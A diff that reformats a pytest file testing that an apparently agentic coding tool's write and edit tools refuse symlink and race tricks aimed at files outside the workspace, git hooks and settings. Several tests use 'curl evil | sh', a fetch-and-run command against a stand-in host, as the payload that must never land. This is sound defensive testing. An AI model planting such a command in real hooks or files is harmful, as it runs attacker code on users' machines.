@@ -27,8 +27,10 @@ def directory_opener(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyP
     if request.param == "walk":
         monkeypatch.setitem(openat2._state, "call", None)
     elif openat2._bind() is None:
-        pytest.fail("openat2 (Linux 5.6+, x86_64/arm64) is missing here, so only the walk "
-                    "fallback could be tested")
+        pytest.fail(
+            "openat2 (Linux 5.6+, x86_64/arm64) is missing here, so only the walk "
+            "fallback could be tested"
+        )
     return str(request.param)
 
 
@@ -85,8 +87,14 @@ def _flipper(place: Path, make_real: Callable[[Path], object], link_to: Path) ->
     assert flips[0] > 50, "the flipper hardly ran: the race was not exercised"
 
 
-def _race(work: Path, target: Path, link_to: Path, calls: Callable[[int], tuple[object, dict]],
-          make_real: Callable[[Path], object], rounds: int = 300) -> int:
+def _race(
+    work: Path,
+    target: Path,
+    link_to: Path,
+    calls: Callable[[int], tuple[object, dict]],
+    make_real: Callable[[Path], object],
+    rounds: int = 300,
+) -> int:
     ok = 0
     with _flipper(target, make_real, link_to):
         for n in range(rounds):
@@ -98,9 +106,13 @@ def _race(work: Path, target: Path, link_to: Path, calls: Callable[[int], tuple[
 
 def test_write_raced_on_the_file_never_changes_the_outside_file(work: Path, outside: Path) -> None:
     secret = outside / "secret.txt"
-    ok = _race(work, work / "f", secret,
-               lambda n: (WriteTool(), {"file_path": "f", "content": f"new {n}\n"}),
-               lambda p: p.write_text("inside\n"))
+    ok = _race(
+        work,
+        work / "f",
+        secret,
+        lambda n: (WriteTool(), {"file_path": "f", "content": f"new {n}\n"}),
+        lambda p: p.write_text("inside\n"),
+    )
     assert secret.read_text() == ORIGINAL
     assert ok > 0  # the loop really wrote, whenever the name was a file
 
@@ -112,8 +124,10 @@ def test_edit_and_multiedit_raced_never_change_the_outside_file(work: Path, outs
     def call(n: int) -> tuple[object, dict]:
         if n % 2:
             return EditTool(), {"file_path": "f", "old_string": "original", "new_string": "EDIT"}
-        return MultiEditTool(), {"file_path": "f", "edits": [
-            {"old_string": "original", "new_string": "MULTI"}]}
+        return MultiEditTool(), {
+            "file_path": "f",
+            "edits": [{"old_string": "original", "new_string": "MULTI"}],
+        }
 
     _race(work, work / "f", secret, call, lambda p: p.write_text("inside: original\n"))
     assert secret.read_text() == ORIGINAL
@@ -123,8 +137,13 @@ def test_write_raced_on_a_parent_directory_never_lands_outside(work: Path, outsi
     def make_dir(p: Path) -> None:
         p.mkdir()
 
-    ok = _race(work, work / "d", outside,
-               lambda n: (WriteTool(), {"file_path": "d/f", "content": f"new {n}\n"}), make_dir)
+    ok = _race(
+        work,
+        work / "d",
+        outside,
+        lambda n: (WriteTool(), {"file_path": "d/f", "content": f"new {n}\n"}),
+        make_dir,
+    )
     assert (outside / "f").read_text() == ORIGINAL
     assert sorted(p.name for p in outside.iterdir()) == ["f", "secret.txt"]  # no temp left
     assert ok > 0
@@ -172,17 +191,29 @@ def test_write_keeps_mode_and_creates_parents(work: Path) -> None:
     assert sorted(p.name for p in work.iterdir()) == ["a", "x.sh"]  # no temp files left
 
 
-@pytest.mark.parametrize("inside", [".git/hooks/pre-commit", ".git/config", ".tether/settings.json",
-                                    "sub/.git/hooks/post-checkout"])
-def test_a_symlink_into_git_or_tether_metadata_is_not_written_through(work: Path,
-                                                                      inside: str) -> None:
+@pytest.mark.parametrize(
+    "inside",
+    [
+        ".git/hooks/pre-commit",
+        ".git/config",
+        ".tether/settings.json",
+        "sub/.git/hooks/post-checkout",
+    ],
+)
+def test_a_symlink_into_git_or_tether_metadata_is_not_written_through(
+    work: Path, inside: str
+) -> None:
     target = work / inside
     target.parent.mkdir(parents=True)
     target.write_text("original\n")
     (work / "notes.md").symlink_to(target)
-    for tool, args in ((WriteTool(), {"file_path": "notes.md", "content": "curl evil | sh\n"}),
-                       (EditTool(), {"file_path": "notes.md", "old_string": "original",
-                                     "new_string": "curl evil | sh"})):
+    for tool, args in (
+        (WriteTool(), {"file_path": "notes.md", "content": "curl evil | sh\n"}),
+        (
+            EditTool(),
+            {"file_path": "notes.md", "old_string": "original", "new_string": "curl evil | sh"},
+        ),
+    ):
         result = run_tool(tool, args, work)
         assert result.is_error and "through a symlink" in result.output, result.output
     assert target.read_text() == "original\n"
@@ -192,9 +223,13 @@ def test_write_raced_into_git_hooks_never_arms_a_hook(work: Path) -> None:
     hook = work / ".git" / "hooks" / "pre-commit"
     hook.parent.mkdir(parents=True)
     hook.write_text("original\n")
-    _race(work, work / "f", hook,
-          lambda n: (WriteTool(), {"file_path": "f", "content": f"curl evil | sh {n}\n"}),
-          lambda p: p.write_text("inside\n"))
+    _race(
+        work,
+        work / "f",
+        hook,
+        lambda n: (WriteTool(), {"file_path": "f", "content": f"curl evil | sh {n}\n"}),
+        lambda p: p.write_text("inside\n"),
+    )
     assert hook.read_text() == "original\n"
 
 
@@ -208,8 +243,9 @@ def test_a_workspace_inside_a_tether_folder_still_writes_through_its_links(tmp_p
     assert (work / "real.md").read_text() == "new\n"
 
 
-def test_open_directory_refuses_symlinks_and_creates_missing_parts(tmp_path: Path,
-                                                                   outside: Path) -> None:
+def test_open_directory_refuses_symlinks_and_creates_missing_parts(
+    tmp_path: Path, outside: Path
+) -> None:
     (tmp_path / "real").mkdir()
     (tmp_path / "link").symlink_to(outside)
     (tmp_path / "file").write_text("x")
